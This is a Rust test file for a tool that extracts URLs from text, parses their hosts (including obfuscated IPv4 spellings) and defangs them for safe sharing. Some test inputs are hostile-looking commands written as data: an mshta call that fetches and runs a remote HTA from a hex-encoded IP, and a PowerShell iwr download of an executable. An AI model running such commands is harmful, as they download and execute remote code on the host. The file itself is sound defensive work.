//! URLs as they stand in text: found, cut, defanged.

use super::*;
use proptest::prelude::*;

/// Finds, defangs, and compares one URL a line.
#[track_caller]
fn check(text: &str, expected: &str) {
    let found = find(text, &Limits::desk());
    assert_eq!(found.problems, []);
    let lines: Vec<String> = found.value.iter().map(|url| defang(&url.text)).collect();
    assert_eq!(lines.join("\n"), expected);
}

#[track_caller]
fn check_host(url: &str, expected: Option<(&str, bool, Option<u16>)>) {
    let read = read(url);
    let got = read.as_ref().map(|url| (url.host.as_str(), url.host_is_ip, url.port));
    assert_eq!(got, expected, "{url}");
    if let Some(read) = &read {
        assert_eq!(read.text, url, "the text stays as written");
    }
}

#[test]
fn splits_glued_urls() {
    check(
        "$u='http://a.example/x*https://b.example/y'.Split('*')",
        "hxxp://a[.]example/x\nhxxps://b[.]example/y",
    );
    check("http://a/x@http://b/y@", "hxxp://a/x\nhxxp://b/y");
    check("http://a/xhttp://b/y", "hxxp://a/x\nhxxp://b/y");
    check("http://a/x/,http://b/y/;FTP://c/z", "hxxp://a/x/\nhxxp://b/y/\nfxp://c/z");
    check("http://a.example!http://b.example", "hxxp://a[.]example\nhxxp://b[.]example");
}

#[test]
fn a_url_in_a_query_belongs_to_the_outer_one_and_is_told_too() {
    check(
        "https://r.example/go?u=http://a.example/x&v=1",
        "hxxps://r[.]example/go?u=hxxp://a[.]example/x&v=1\nhxxp://a[.]example/x&v=1",
    );
    check("http://r.example/a=http://b.example/", "hxxp://r[.]example/a=\nhxxp://b[.]example/");
}

#[test]
fn leaves_out_the_sentence_around_it() {
    check("See (http://a.example/x_(y)).", "hxxp://a[.]example/x_(y)");
    check("<a href=\"http://a.example/x\">", "hxxp://a[.]example/x");
    check("href=&quot;http://a.example/x&quot;", "hxxp://a[.]example/x");
    check("詳細はhttps://a.example/x。ご確認", "hxxps://a[.]example/x");
    check("「http://a.example/x」", "hxxp://a[.]example/x");
    check("http://a.example/をご覧ください", "hxxp://a[.]example/");
    check("http://a.exampleまで", "hxxp://a[.]example");
    check("http://a.example/x123をご覧ください", "hxxp://a[.]example/x123");
    check("http://a.example/資料/一覧.doc", "hxxp://a[.]example/資料/一覧.doc");
    check("http://a.example/x\u{3000}http://b.example!!", "hxxp://a[.]example/x\nhxxp://b[.]example");
    check("http://a.example/x|http://b.example^", "hxxp://a[.]example/x\nhxxp://b[.]example");
}

#[test]
fn finds_none_where_none_is() {
    check("", "");
    check("://", "");
    check("http://", "");
    check("http:// a", "");
    check("http://$host/ http://%s/ http://.../ http://-/", "");
    check("sftp://a.example/ mailto:a@b.example xftp://a", "");
    check("hxxp://a.example/", "");
}

#[test]
fn tells_no_url_twice() {
    check(
        "http://a.example/x http://a.example/x HTTP://A.example/x",
        "hxxp://a[.]example/x\nhxxp://A[.]example/x",
    );
}

#[test]
fn reads_hosts_as_a_browser_does() {
    check_host("http://A.Example:80/", Some(("a.example", false, None)));
    check_host("https://a.example:8443", Some(("a.example", false, Some(8443))));
    check_host("ftp://u:p@a.example:21/", Some(("a.example", false, None)));
    check_host("http://safe.example@b.example/", Some(("b.example", false, None)));
    check_host("http://a.example./", Some(("a.example", false, None)));
    check_host("http://a.example:/", Some(("a.example", false, None)));
    check_host("http://日本語.example/", Some(("xn--wgv71a119e.example", false, None)));
    check_host("http://ｅｘａｍｐｌｅ。invalid/", Some(("example.invalid", false, None)));
    check_host("http://%61.example/", Some(("a.example", false, None)));
    check_host("http://[2001:DB8::1]:8080/", Some(("2001:db8::1", true, Some(8080))));
    check_host("http://host_1/", Some(("host_1", false, None)));
    check_host("http://a.example:99999/", None);
    check_host("http://a.example:8o/", None);
    check_host("http://[::1/", None);
    check_host("http://a..example/", None);
    check_host(" http://a.example/", None);
    check_host("gopher://a.example/", None);
}

#[test]
fn reads_every_spelling_of_an_ipv4_address() {
    let same = Some(("185.7.214.7", true, None));
    check_host("http://185.7.214.7/f", same);
    check_host("http://0xb907d607/f", same);
    check_host("http://0XB9.0x07.0xd6.0x7/f", same);
    check_host("http://3104298503/f", same);
    check_host("http://0271.0007.0326.0007/f", same);
    check_host("http://185.7.54791/f", same);
    check_host("http://0/", Some(("0.0.0.0", true, None)));
    check_host("http://256.1.1.1/", None);
    check_host("http://1.2.3.4.5/", None);
    check_host("http://a.9/", None);
    check_host("http://4294967296/", None);
    check_host("http://99999999999999999999999/", None);
    check("start mshta http://0xb907d607/fer/fer.html", "hxxp://0xb907d607/fer/fer.html");
}

#[track_caller]
fn check_defang(text: &str, expected: &str) {
    assert_eq!(defang(text), expected);
    assert_eq!(defang(expected), expected, "a second time changes nothing");
}

#[test]
fn defangs_urls_hosts_and_addresses() {
    check_defang("https://a.example/x.y?z=1.2", "hxxps://a[.]example/x.y?z=1.2");
    check_defang("HTTP://u@a.example:81/", "hxxp://u[@]a[.]example:81/");
    check_defang("http://[2001:db8::1]/x", "hxxp://[2001[:]db8[:][:]1]/x");
    check_defang("a.b.example", "a[.]b[.]example");
    check_defang("a.example/x.doc", "a[.]example/x.doc");
    check_defang("192.0.2.1", "192[.]0[.]2[.]1");
    check_defang("2001:db8::1", "2001[:]db8[:][:]1");
    check_defang("taro@mail.example", "taro[@]mail[.]example");
    check_defang("", "");
}

#[test]
fn a_scheme_glued_to_the_host_before_it_is_defanged_too() {
    check_defang("http://c.example=http://d.example/", "hxxp://c[.]example=hxxp://d[.]example/");
    check_defang("http://a.exampleHTTPS://b.example", "hxxp://a[.]examplehxxps://b[.]example");
}

#[test]
fn defangs_only_the_urls_of_a_text() {
    assert_eq!(
        defang_text("iwr http://a.example/x.exe -o x.exe; http://b.example"),
        "iwr hxxp://a[.]example/x.exe -o x.exe; hxxp://b[.]example"
    );
}

#[test]
fn says_which_limit_was_met() {
    let limits = Limits { urls_max: 2, url_bytes_max: 20, ..Limits::desk() };
    let found = find("http://a/1 http://a/1 http://a/2 http://a/3 http://a/4", &limits);
    assert_eq!(found.value.len(), 2);
    assert_eq!(found.problems, [Problem::limit("text", "urls_max", 2)]);

    let long = find(&format!("http://a.example/{}", "x".repeat(99)), &limits);
    assert_eq!(long.value.first().map(|url| url.text.as_str()), Some("http://a.example/xxx"));
    assert_eq!(long.problems, [Problem::limit("text", "url_bytes_max", 20)]);
}

#[test]
fn many_glued_schemes_cost_linear_time() {
    for unit in
        ["http://", "http://a?=", "?=http://a", "://", "http://a.", "http", "@http://a(", "=http://あ"]
    {
        let text = unit.repeat(200_000);
        let found = find(&text, &Limits::desk());
        assert!(found.value.len() <= 1_000, "{unit}");
        assert!(defang(&text).len() >= text.len() - text.len() / 4, "{unit}");
    }
}

proptest! {
    #[test]
    fn any_text_is_read_and_what_is_found_reads_again(text in "(http://|https|ftp|[:/@.?=*a-c0x1-3あ。\\[\\]() ]|\\PC){0,40}") {
        let found = find(&text, &Limits::desk()).value;
        for url in &found {
            prop_assert!(text.contains(&url.text));
            prop_assert_eq!(read(&url.text), Some(url.clone()));
            prop_assert!(!defang(&url.text).to_ascii_lowercase().contains("http://"));
        }
        let once = defang(&text);
        prop_assert_eq!(defang(&once), once);
    }
}
